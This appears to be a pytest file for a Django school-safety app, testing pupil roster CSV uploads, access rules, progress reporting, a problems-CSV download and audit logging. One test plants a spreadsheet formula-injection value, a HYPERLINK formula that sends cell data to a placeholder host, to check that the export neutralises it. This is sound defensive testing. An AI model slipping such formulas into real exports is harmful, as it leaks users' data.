import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from esafety.audit.models import AuditEvent
from esafety.people.models import Pupil, RosterImport
from esafety.people.roster.columns import COLUMNS
from tests.people.roster_helpers import pupil, roster_csv, run_import, upload


@pytest.fixture
def handed_off(monkeypatch):
    """Record hand-offs to the broker instead of making them."""
    calls = []
    monkeypatch.setattr(
        "esafety.notify.dispatch.enqueue", lambda task, *args: calls.append((task.name, args))
    )
    return calls


def list_url(school):
    return reverse("people:roster_list", args=[school.code])


def detail_url(r):
    return reverse("people:roster_detail", args=[r.school.code, r.code])


def progress_url(r):
    return reverse("people:roster_progress", args=[r.school.code, r.code])


@pytest.mark.parametrize("role", ["office", "head"])
def test_it_shows_the_upload_page_and_the_columns_to_the_office_and_head(
    personas, client_for, role
):
    r = client_for(personas.for_role(role)).get(list_url(personas.school))
    assert r.status_code == 200
    for column in COLUMNS:
        assert f"<code>{column.name}</code>" in r.text
    assert 'enctype="multipart/form-data"' in r.text


def test_it_forbids_other_staff(personas, client_for):
    assert client_for(personas.staff).get(list_url(personas.school)).status_code == 403
    assert client_for(personas.dsl).get(list_url(personas.school)).status_code == 403


def test_it_hides_the_page_from_another_schools_dsl(personas, client_for):
    r = upload(personas.office, personas.school, roster_csv([pupil(1)]))
    client = client_for(personas.other_dsl)
    assert client.get(list_url(personas.school)).status_code == 404
    assert client.get(detail_url(r)).status_code == 404
    assert client.get(progress_url(r)).status_code == 404


def test_it_sends_anonymous_users_to_sign_in(personas, client_for):
    r = client_for(None).get(list_url(personas.school))
    assert r.status_code == 302 and r.url.startswith("/accounts/login/")


def test_it_does_not_show_another_schools_import_under_this_school(personas, client_for):
    from tests.conftest import make_member

    theirs = make_member(personas.other_school, "office", "office@birchwood.test", "Bo Office")
    r = upload(theirs, personas.other_school, roster_csv([pupil(1)]))
    url = reverse("people:roster_detail", args=[personas.school.code, r.code])
    assert client_for(personas.office).get(url).status_code == 404


def test_it_stores_the_upload_and_hands_it_off_after_commit(
    personas, client_for, handed_off, django_capture_on_commit_callbacks
):
    data = roster_csv([pupil(1)])
    with django_capture_on_commit_callbacks(execute=True):
        r = client_for(personas.office).post(
            list_url(personas.school), {"file": SimpleUploadedFile("Year 5.csv", data)}
        )

    roster_import = RosterImport.objects.get()
    assert r.status_code == 302 and r.url == detail_url(roster_import)
    assert roster_import.status == RosterImport.Status.PENDING
    assert roster_import.original_name == "Year 5.csv"
    assert roster_import.file.name == f"rosters/{roster_import.code}.csv"
    assert roster_import.file.read() == data
    assert handed_off == [("esafety.people.tasks.run_roster_import", (roster_import.pk,))]
    assert not Pupil.objects.exists()  # the request itself imports nothing


def test_it_refuses_a_file_that_is_not_csv(personas, client_for):
    r = client_for(personas.office).post(
        list_url(personas.school), {"file": SimpleUploadedFile("pupils.xlsx", b"PK\x03\x04")}
    )
    assert r.status_code == 200
    assert "Upload a .csv file" in r.text
    assert not RosterImport.objects.exists()


def test_it_shows_progress_with_a_refresh_link_and_no_inline_script(personas, client_for):
    r = upload(personas.office, personas.school, roster_csv([pupil(1)]))
    RosterImport.objects.filter(pk=r.pk).update(
        status=RosterImport.Status.CHECKING, total_rows=2000, processed_rows=500
    )

    page = client_for(personas.office).get(detail_url(r))

    assert page.status_code == 200
    assert f'data-progress="{progress_url(r)}"' in page.text
    assert 'role="progressbar"' in page.text and 'aria-valuenow="25"' in page.text
    assert "500 of 2000 rows checked" in page.text
    assert f'href="{detail_url(r)}">Refresh</a>' in page.text
    assert '<script src="/static/js/progress.js"></script>' in page.text
    assert "<script>" not in page.text and "style=" not in page.text


def test_it_shows_the_summary_when_done(personas, client_for):
    r = run_import(personas.office, personas.school, roster_csv([pupil(1), pupil(2)]))

    page = client_for(personas.head).get(detail_url(r))

    assert "Imported." in page.text
    assert '<th scope="row">New pupils</th><td>2</td>' in page.text
    assert "progress.js" not in page.text


def test_it_lists_every_problem_when_failed(personas, client_for):
    rows = [pupil(1, date_of_birth="31/02/2015"), pupil(2, sen="maybe")]
    r = run_import(personas.office, personas.school, roster_csv(rows))

    page = client_for(personas.office).get(detail_url(r))

    assert "Nothing was imported." in page.text
    assert "line 2: date_of_birth &#x27;31/02/2015&#x27; is not a date" in page.text
    assert "line 3: sen &#x27;maybe&#x27; is not yes or no" in page.text


def test_it_reports_progress_as_json(personas, client_for):
    r = upload(personas.office, personas.school, roster_csv([pupil(1)]))
    RosterImport.objects.filter(pk=r.pk).update(
        status=RosterImport.Status.CHECKING, total_rows=200, processed_rows=50
    )
    client = client_for(personas.office)

    assert client.get(progress_url(r)).json() == {
        "status": "checking",
        "status_text": "Checking rows: 50 of 200 rows checked…",
        "status_label": "Checking rows",
        "percent": 25,
        "processed_rows": 50,
        "total_rows": 200,
        "finished": False,
    }
    RosterImport.objects.filter(pk=r.pk).update(status=RosterImport.Status.DONE)
    data = client.get(progress_url(r)).json()
    assert (data["finished"], data["percent"]) == (True, 100)
    assert client_for(personas.staff).get(progress_url(r)).status_code == 403


def problems_url(r):
    return reverse("people:roster_problems_csv", args=[r.school.code, r.code])


def bad_lines(n: int) -> bytes:
    return roster_csv([pupil(i, date_of_birth="31/02/2015") for i in range(1, n + 1)])


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="roster-problems-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_lists_the_first_hundred_problems_and_the_download_has_every_one(personas, client_for):
    client = client_for(personas.office)
    few = run_import(personas.office, personas.school, bad_lines(101))
    many = run_import(personas.office, personas.school, bad_lines(5_000))

    small, page = client.get(detail_url(few)), client.get(detail_url(many))

    assert "The file has 5,000 problems." in page.text
    assert page.text.count('<li class="list-group-item">line ') == 100
    assert "line 101: date_of_birth" in page.text and "line 102:" not in page.text
    assert '<li class="list-group-item">and 4,900 more</li>' in page.text
    assert f'href="{problems_url(many)}" download>Download all 5,000 problems as CSV' in page.text
    # The page is as long for 5,000 problems as for 101: only the count's digits differ.
    assert len(page.content) - len(small.content) < 50
    assert len(page.content) < 30_000

    rows = csv_rows(client.get(problems_url(many)))
    assert rows[0] == ["Line", "Problem"]
    assert len(rows) == 5_001
    assert [int(line) for line, _ in rows[1:]] == list(range(2, 5_002))
    assert rows[-1][1] == (
        "date_of_birth '31/02/2015' is not a date (use YYYY-MM-DD or DD/MM/YYYY)."
    )


def test_it_offers_a_short_list_for_download_too(personas, client_for):
    r = run_import(personas.office, personas.school, bad_lines(2))
    client = client_for(personas.head)

    page = client.get(detail_url(r))
    assert "The file has 2 problems." in page.text and "more</li>" not in page.text
    assert f'href="{problems_url(r)}" download>Download the list as CSV' in page.text
    rows = csv_rows(client.get(problems_url(r)))
    assert [line for line, _ in rows] == ["Line", "2", "3"]


def test_it_keeps_a_formula_in_a_problem_as_text_in_the_download(personas, client_for):
    r = run_import(personas.office, personas.school, bad_lines(1))
    # Every message starts with a column name today; whatever one says, it stays text.
    RosterImport.objects.filter(pk=r.pk).update(
        errors=[{"line": None, "message": '=HYPERLINK("http://x?"&A1, "Open")'}],
        summary={"problems": 1, "lines": 0},
    )

    rows = csv_rows(client_for(personas.office).get(problems_url(r)))

    assert rows[1] == ["", '\'=HYPERLINK("http://x?"&A1, "Open")']


def test_it_audits_every_download_of_the_problems(personas, client_for):
    r = run_import(personas.office, personas.school, bad_lines(3))

    response = client_for(personas.head).get(problems_url(r))
    b"".join(response.streaming_content)

    event = AuditEvent.objects.get(action="export.roster_problems")
    assert (event.actor, event.school, event.object_code) == (
        personas.head,
        personas.school,
        str(r.code),
    )
    assert event.summary == "3 problem(s)"
